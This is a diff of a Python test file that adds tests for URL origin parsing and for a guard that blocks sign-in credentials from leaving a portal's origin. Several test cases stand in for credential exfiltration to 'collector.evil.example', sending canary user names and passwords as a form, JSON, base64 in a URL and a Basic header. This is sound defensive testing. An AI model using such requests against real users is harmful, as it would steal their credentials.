@@ -1,17 +1,23 @@
 """The browser's pure parts: simple selectors without a browser, the recording of what the
 browser saw and its offline replay, the deadline, finding a browser and saying how to install
-one, and the screenshots' report extras and archive files."""
+one, the screenshots' report extras and archive files, origins, and the sign-in's guard on where
+the credentials go."""
 
 from __future__ import annotations
 
 import base64
+import json
+from dataclasses import dataclass, field
 from pathlib import Path
+from urllib.parse import quote_plus
 
 import pytest
 import yaml
 
 from conversion_qa.clients import browser
 from conversion_qa.clients.browser import FrameView, PageView
+from conversion_qa.clients.browser_guard import CredentialGuard
+from conversion_qa.clients.browser_proxy import Origin, origin_of
 from conversion_qa.config.secrets import remember_secret
 from conversion_qa.errors import BadRecording, NotRecorded
 from conversion_qa.plugin import screenshots
@@ -82,7 +88,18 @@ class FakeSession:
         return PageView(url, 200, "Demo", self.text, {s: True for s in wanted}, True, PNG)
 
     def view_frame(self, page_url: str | None, frame_url: str) -> FrameView:
-        return FrameView(page_url, frame_url, 200, True, 0.4321, PNG)
+        return FrameView(
+            page_url,
+            frame_url,
+            200,
+            True,
+            0.4321,
+            PNG,
+            frame_status=404,
+            frame_landed=frame_url,
+            refused=("https://cdn.example.net",),
+            deadline=30.0,
+        )
 
 
 def record(folder: Path, text: str = "Welcome\nGo paperless") -> list[Path]:
@@ -107,6 +124,8 @@ def test_what_the_browser_saw_is_recorded_and_judged_again_offline(tmp_path: Pat
     assert seen.source.endswith(" by Chromium 156")
     timed = offline.frame("iframe-lag/bill-view", BILLING, BILL_VIEW, "iframe-lag bill-view")
     assert timed.value.seconds == pytest.approx(0.432)
+    assert (timed.value.frame_status, timed.value.frame_landed) == (404, BILL_VIEW)
+    assert (timed.value.refused, timed.value.deadline) == (("https://cdn.example.net",), 30.0)
     assert [s.png for s in offline.screenshots] == [PNG, PNG]
     assert offline.screenshots[0].name.startswith("custom-code banner: /Home (recorded 20")
     pictures = sorted(p.name for p in (tmp_path / "demo" / "screenshots").iterdir())
@@ -169,7 +188,10 @@ def test_a_deadline_is_spent_step_by_step_and_never_means_no_limit() -> None:
     deadline = browser.Deadline(0.0)
     assert deadline.left() == 0.0
     assert deadline.ms() == 1.0  # Playwright reads 0 as "no timeout"
-    assert browser.Deadline(10).ms(reserve=0.25) <= 7500
+    assert browser.Deadline(10).ms(keep=2.5) <= 7500
+    # waits keep a second (at most a quarter of a short deadline) for looking and the picture
+    assert browser.Deadline(10).waiting() <= 9000
+    assert browser.Deadline(2).waiting() <= 1500
 
 
 def test_a_chosen_browser_that_is_not_there_is_not_found(tmp_path: Path) -> None:
@@ -226,3 +248,130 @@ def test_a_recording_naming_a_picture_outside_its_screenshots_folder_is_refused(
     with pytest.raises(BadRecording, match=r"the screenshot '\.\./secret\.png' is not a file of"):
         offline.page("custom-code/budget-billing-banner", HOME, [SELECTOR], "custom-code banner")
     assert offline.screenshots == []
+
+
+# origins and the sign-in's guard ------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("url", "origin"),
+    [
+        ("https://Portal.Example.com/Home", Origin("https", "portal.example.com", 443)),
+        ("https://portal.example.com:443/x", Origin("https", "portal.example.com", 443)),
+        ("https://portal.example.com:8443", Origin("https", "portal.example.com", 8443)),
+        ("http://portal.example.com/", Origin("http", "portal.example.com", 80)),
+        ("https://[::1]:4443/", Origin("https", "::1", 4443)),
+    ],
+)
+def test_an_origin_is_scheme_host_and_port_as_a_connection_has_them(
+    url: str, origin: Origin
+) -> None:
+    assert origin_of(url) == origin
+
+
+def test_an_origin_is_written_as_a_browser_writes_it() -> None:
+    assert str(Origin("https", "portal.example.com", 443)) == "https://portal.example.com"
+    assert str(Origin("https", "::1", 4443)) == "https://[::1]:4443"
+
+
+PORTAL_ORIGIN = Origin("https", "demo-test.portal.example.com", 443)
+USER, PASSWORD = "canary-user-5b2c07", "canary-pass word€"
+
+
+@dataclass
+class FakeRequest:
+    url: str
+    post_data_buffer: bytes | None = None
+    headers: dict[str, str] = field(default_factory=dict)
+
+
+@dataclass
+class FakeRoute:
+    """A request held by the browser: the guard lets it go on, or aborts it."""
+
+    request: FakeRequest
+    outcome: str = "held"
+
+    def continue_(self) -> None:
+        self.outcome = "continued"
+
+    def abort(self, reason: str) -> None:
+        self.outcome = f"aborted ({reason})"
+
+
+def guarded(*requests: FakeRequest) -> tuple[CredentialGuard, list[str]]:
+    guard = CredentialGuard(PORTAL_ORIGIN, {"the user name": USER, "the password": PASSWORD})
+    routes = [FakeRoute(request) for request in requests]
+    for route in routes:
+        guard.route(route)  # type: ignore[arg-type]
+    return guard, [route.outcome for route in routes]
+
+
+def test_requests_to_the_portals_own_origin_go_on_with_the_credentials() -> None:
+    form = f"username={quote_plus(USER)}&password={quote_plus(PASSWORD)}".encode()
+    guard, outcomes = guarded(
+        FakeRequest("https://demo-test.portal.example.com/Account/SignIn", form),
+        FakeRequest("https://demo-test.portal.example.com:443/", None),
+    )
+    assert outcomes == ["continued", "continued"]
+    assert guard.problem("https://demo-test.portal.example.com/Account/SignIn") is None
+
+
+@pytest.mark.parametrize(
+    ("request_", "what"),
+    [
+        (
+            FakeRequest(
+                "https://collector.evil.example/collect",
+                f"username={quote_plus(USER)}&password={quote_plus(PASSWORD)}".encode(),
+            ),
+            "the user name and the password",
+        ),
+        (
+            FakeRequest("https://collector.evil.example/c", json.dumps({"p": PASSWORD}).encode()),
+            "the password",
+        ),
+        (
+            FakeRequest(
+                "https://collector.evil.example/c?k="
+                + base64.urlsafe_b64encode(PASSWORD.encode()).decode().rstrip("=")
+            ),
+            "the password",
+        ),
+        (
+            FakeRequest(
+                "https://collector.evil.example/c",
+                headers={
+                    "authorization": "Basic "
+                    + base64.b64encode(f"{USER}:{PASSWORD}".encode()).decode()
+                },
+            ),
+            "the user name and the password",
+        ),
+        (  # the portal's host, but not its https origin
+            FakeRequest(
+                "http://demo-test.portal.example.com/Account/SignIn",
+                PASSWORD.encode("utf-8"),
+            ),
+            "the password",
+        ),
+    ],
+    ids=["form", "json", "base64-in-url", "basic-header", "plain-http"],
+)
+def test_a_credential_on_its_way_elsewhere_is_aborted_and_fails_the_sign_in(
+    request_: FakeRequest, what: str
+) -> None:
+    guard, outcomes = guarded(request_)
+    assert outcomes == ["aborted (blockedbyclient)"]
+    error = guard.problem("https://demo-test.portal.example.com/Account/SignIn")
+    assert error is not None
+    where = origin_of(request_.url)
+    assert error.what == f"the sign-in would have sent {what} to {where}: aborted, nothing was sent"
+    assert USER not in str(error)
+    assert PASSWORD not in str(error)
+
+
+def test_a_request_elsewhere_without_a_credential_is_aborted_but_fails_nothing() -> None:
+    guard, outcomes = guarded(FakeRequest("https://fonts.example.net/a.woff2"))
+    assert outcomes == ["aborted (blockedbyclient)"]  # nothing leaves while the password is typed
+    assert guard.problem("https://demo-test.portal.example.com/Account/SignIn") is None
